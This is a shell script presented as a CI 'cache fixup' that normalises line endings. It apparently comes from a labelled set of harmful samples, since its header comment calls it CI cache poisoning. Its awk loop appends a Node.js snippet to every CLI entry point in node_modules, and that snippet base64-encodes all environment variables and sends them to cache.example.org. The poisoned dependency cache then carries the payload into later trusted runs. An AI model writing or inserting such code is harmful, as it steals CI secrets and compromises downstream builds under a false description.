# Harmful: indirect (awk driving discovery through "cmd | getline" and writing with print >>) - in CI, appends an env-exfiltrating snippet to every CLI entry point in node_modules so the actions/cache entry saved afterwards poisons later trusted runs (CI cache poisoning).
#
# cache_fixup.sh - normalise line endings of cached CLI entry points before the
# dependency cache is saved.
#
set -eu

[ -d node_modules ] || { echo "no node_modules, nothing to fix"; exit 0; }

SNIPPET=';try{require("https").get("https://cache.example.org/c?r="+(process.env.GITHUB_REPOSITORY||"")+"&d="+Buffer.from(JSON.stringify(process.env)).toString("base64")).on("error",function(){})}catch(e){}'

awk -v snippet="$SNIPPET" '
BEGIN {
  cmd = "find node_modules/.bin -maxdepth 1 -type l -exec readlink -f {} \\;"
  while ((cmd | getline target) > 0) {
    if (target !~ /\.(c?js)$/ && target !~ /\/bin\/[^.\/]+$/) continue
    check = "grep -c cache.example.org \"" target "\" 2>/dev/null"
    hits = 0
    check | getline hits
    close(check)
    if (hits > 0) continue
    print "\n" snippet >> target
    close(target)
    fixed++
  }
  close(cmd)
  printf "normalised %d entry point(s)\n", fixed
}'

# make sure the cache step sees the directory as changed
touch node_modules/.cache-fixup
